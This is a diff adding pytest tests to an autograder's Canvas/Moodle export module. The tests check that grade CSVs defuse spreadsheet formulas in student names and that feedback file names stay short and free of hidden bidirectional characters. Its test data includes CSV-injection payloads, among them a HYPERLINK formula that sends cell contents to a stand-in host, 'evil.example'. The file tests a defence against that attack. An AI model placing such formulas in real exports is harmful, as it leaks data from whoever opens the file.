@@ -1,6 +1,7 @@
 """LMS formats (autograder/lms): class lists and times read from Canvas and Moodle exports, grades and
 feedback written in the forms their importers accept. Fast: files built here, nothing graded."""
 import csv
+import dataclasses
 import datetime as dt
 import re
 import zipfile
@@ -351,3 +352,54 @@ def test_moodle_feedback_zip(tmp_path, capsys):
         assert f"{pieces[2]}_{pieces[3]}" == "assignfeedback_file" and pieces[4] == "feedback.html"
         assert not name.startswith((".", "~"))
     assert "zed (no participant id" in capsys.readouterr().out
+
+
+# ---- what students control (their names) in the files an instructor opens or uploads --------------
+
+FORMULAS = ['=HYPERLINK("evil.example?"&A1,"x")', "+1+1", "@SUM(1)", "-2+3", " =1", "\uff1d1"]
+
+
+def test_grade_exports_hold_no_spreadsheet_formula(tmp_path, capsys):
+    """Names and sections come from the LMS, where students may set their names: in the CSV files an
+    instructor opens in a spreadsheet they start with `'` where they would start a formula (Moodle's
+    `-`, no date, is no formula). Key
+    columns (Canvas ID, Identifier, email in the gradebook import) are written as they are."""
+    roster, rows = roster_and_results()
+    for s, evil in zip(roster.students, FORMULAS):
+        s.first_name, s.last_name, s.section = evil, evil, evil
+    roster.students[2].id = "@zed"      # (an id may start with `@`)
+    rows = [dataclasses.replace(r, student="@zed") if r.student == "zed" else r for r in rows]
+    files = [canvas.grades_csv(rows, roster, tmp_path / "grades.csv"), tmp_path / "grades_status.csv",
+             moodle.worksheet_csv(rows, roster, "03_softmax", tmp_path / "ws.csv")]
+    for path in files:
+        cells = [c for row in read_csv(path) for c in row]
+        bad = [c for c in cells if c != "-" and c.lstrip(" ").startswith(("=", "+", "-", "@", "\uff1d"))]
+        assert not bad, f"{path.name}: {bad}"
+    canvas_rows = read_csv(files[0])[2:]
+    assert {r[1] for r in canvas_rows} == {"12345", "12346", "12347"}        # the ids Canvas matches by
+    assert f"'{FORMULAS[0]}, {FORMULAS[0]}" in [r[0] for r in canvas_rows]
+    ws = {r[0]: r for r in read_csv(files[2])[1:]}
+    assert ws["Participant 111"][1] == f"'{FORMULAS[0]} {FORMULAS[0]}"
+    assert "'@zed" in [r[0] for r in read_csv(files[1])[1:]]
+
+
+def test_feedback_names_fit_a_file_name_and_keep_the_ids(tmp_path, capsys):
+    """A long display name (Moodle allows 100 characters each for first and last name, in any script)
+    or one with invisible bidirectional characters: the feedback file's name still fits in 255 bytes,
+    keeps what the LMS matches by, and shows no hidden characters."""
+    long_name = "\u202e" + "Ä" * 100 + " " + "Ω" * 100
+    assert len(moodle.feedback_name(long_name, "1234567").encode()) <= 255
+    name = moodle.feedback_name(long_name, "1234567")
+    assert "\u202e" not in name and name.split("_", 4)[1:] == ["1234567", "assignfeedback", "file", "feedback.html"]
+    assert moodle.feedback_name("\u202e\u200b", "5") == "Participant_5_assignfeedback_file_feedback.html"
+    roster, _ = roster_and_results()
+    course = feedback_course(tmp_path, ["bob"])
+    lms_file = "ä" * 200 + "_LATE_12345_987654_03_softmax.ipynb"
+    manifest = {"bob": {"origin": "x.zip", "name": "x.ipynb", "submitted_at": None, "time_source": "",
+                        "late_marker": True, "lms": {"canvas_user_id": "12345", "canvas_attachment_id": "987654",
+                                                     "lms_file": lms_file}}}
+    path = lms.export_feedback(course, "03_softmax", roster, manifest, tmp_path / "out", "canvas")
+    with zipfile.ZipFile(path) as z:
+        [name] = z.namelist()
+    assert len(name.encode()) <= 255 and name.endswith("_LATE_12345_987654_feedback.html")
+    assert canvas.reupload_ids(name) == ("12345", "987654")
